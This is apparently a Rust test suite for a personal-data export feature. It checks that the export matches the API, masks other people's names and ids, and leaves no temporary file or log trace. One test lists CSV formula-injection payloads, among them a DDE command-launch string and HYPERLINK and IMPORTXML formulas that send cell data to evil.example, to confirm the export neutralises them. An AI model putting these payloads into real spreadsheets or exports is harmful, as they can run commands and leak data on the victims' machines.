//! The export: the rows of the API, other people masked, no formula in a cell, no file left.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::{LISTS, confirmed, fields_of};
use crate::harness::{Client, DATA, Group, Server, correct, on_each_engine, text, violated};

async fn export(by: &Client<'_>, format: &str) -> (String, String) {
    let payload = by.does("exportMyData", json!({"format": format})).await;
    (text(&payload["content"]), text(&payload["mediaType"]))
}

/// The rows of a CSV file as maps, read by another program than the one that wrote them.
fn rows(content: &str) -> Vec<Vec<(String, String)>> {
    let mut reader = csv::ReaderBuilder::new().from_reader(content.as_bytes());
    let header: Vec<String> = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    reader
        .records()
        .map(|r| header.iter().cloned().zip(r.expect("a row").iter().map(str::to_owned)).collect())
        .collect()
}

fn cell<'r>(row: &'r [(String, String)], column: &str) -> &'r str {
    row.iter().find(|(c, _)| c == column).map_or("", |(_, v)| v.as_str())
}

#[tokio::test]
async fn it_has_the_rows_of_the_api_in_both_formats() {
    on_each_engine(Group::DemoAsIs, async |server: &Server| {
        for who in ["larch", "cedar", "tansy", "rowan", "hazel", "sage"] {
            let person = confirmed(server, who).await;
            let (json_text, media) = export(&person, "JSON").await;
            assert_eq!(media, "application/json");
            let whole: Value = serde_json::from_str(&json_text).expect("JSON");
            assert_eq!(whole["format"], "upheld-my-data-1");
            let (csv_text, media) = export(&person, "CSV").await;
            assert_eq!(media, "text/csv; charset=utf-8");
            let lines = rows(&csv_text);
            for (name, _) in LISTS {
                let key = if *name == "reactions" { "recognition" } else { "id" };
                let api_key = if *name == "reactions" { "recognitionId" } else { "id" };
                let api: Vec<String> =
                    fields_of(&person, name).await.iter().map(|n| text(&n[api_key])).collect();
                let in_json: Vec<String> =
                    whole["lists"][name].as_array().expect("a list").iter().map(|r| text(&r[key])).collect();
                let in_csv: Vec<String> = lines
                    .iter()
                    .filter(|r| cell(r, "list") == *name)
                    .map(|r| cell(r, key).to_owned())
                    .collect();
                assert_eq!(in_json, api, "{who} {name}");
                assert_eq!(in_csv, api, "{who} {name}");
            }
        }
    })
    .await;
}

#[tokio::test]
async fn other_people_are_masked() {
    on_each_engine(Group::Work, async |server: &Server| {
        let (tansy, cedar) = (server.person("tansy").await, server.person("cedar").await);
        let incident = violated(&tansy)
            .about("larch")
            .set("situation", "Sage and Heath were there, and HAZEL too.")
            .set("behaviour", "Larch cut Sage's answer short.")
            .send()
            .await;
        correct(&cedar, &incident).set("rationale", "I, Cedar, heard it from Tansy.").deliver().await;
        let larch = confirmed(server, "larch").await;
        for format in ["JSON", "CSV"] {
            let (content, _) = export(&larch, format).await;
            assert!(content.contains(&incident));
            assert!(content.contains("a colleague and a colleague were there, and a colleague too."));
            assert!(content.contains("Larch cut a colleague's answer short."));
            let words: BTreeSet<String> =
                content.split(|c: char| !c.is_alphanumeric()).map(str::to_lowercase).collect();
            for person in DATA["people"].as_array().expect("people") {
                let name = text(&person["displayName"]).to_lowercase();
                assert!(name == "larch" || !words.contains(&name), "{format} names {name}");
            }
            assert!(!content.contains(&server.person_id("tansy").await), "nor by an id");
        }
    })
    .await;
}

#[tokio::test]
async fn no_cell_is_a_formula() {
    on_each_engine(Group::Work, async |server: &Server| {
        let larch = confirmed(server, "larch").await;
        let feed = larch.all("recognitions", "id").await;
        let id = text(&feed[0]["id"]);
        let payloads = [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/\"&A1,\"see\")",
            "  =1+1",
            "\n=1+1",
            "=IMPORTXML(\"http://evil.example/\",\"//a\")",
            "=\"a\"\"b\";=1+1,=2",
        ];
        for payload in payloads {
            larch.does("comment", json!({"recognitionId": id, "text": format!("{payload} x")})).await;
        }
        let (content, _) = export(&larch, "CSV").await;
        let mut comments = 0;
        for row in rows(&content) {
            for (column, cell) in &row {
                let first = cell.trim_start_matches(' ').chars().next();
                let risky = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
                assert!(first.is_none_or(|c| !risky.contains(&c)), "{column}: {cell:?}");
            }
            comments += usize::from(cell(&row, "list") == "comments" && cell(&row, "text").starts_with('\''));
        }
        assert!(comments >= payloads.len(), "{comments} guarded");
        for line in content.split("\r\n").filter(|l| !l.is_empty()) {
            assert!(line.starts_with('"') || !line.contains(','), "every cell is quoted");
        }
    })
    .await;
}

#[tokio::test]
async fn it_asks_who_is_there_and_leaves_no_file() {
    on_each_engine(Group::Work, async |server: &Server| {
        let larch = server.own_session("larch").await;
        larch.may_not("exportMyData", json!({"format": "JSON"})).await.is("CONFIRM_IDENTITY");
        let token = text(&larch.does("createApiToken", json!({"name": "script"})).await["token"]);
        let script = Client::with_token(server, &token);
        script.may_not("exportMyData", json!({"format": "JSON"})).await.is("FORBIDDEN");
        let folder = server.place().folder();
        let files = || -> BTreeSet<_> {
            std::fs::read_dir(&folder)
                .expect("the folder")
                .map(|e| e.expect("an entry").file_name())
                .collect()
        };
        let before = files();
        larch.does("confirmIdentity", json!({"password": "upheld-demo"})).await;
        for format in ["JSON", "CSV"] {
            let payload = larch.does("exportMyData", json!({"format": format})).await;
            assert!(text(&payload["filename"]).starts_with("my-data-"));
        }
        assert_eq!(files(), before, "no file is left");
        assert!(!server.log().contains("upheld-my-data-1"), "nor does the log hold it");
    })
    .await;
}
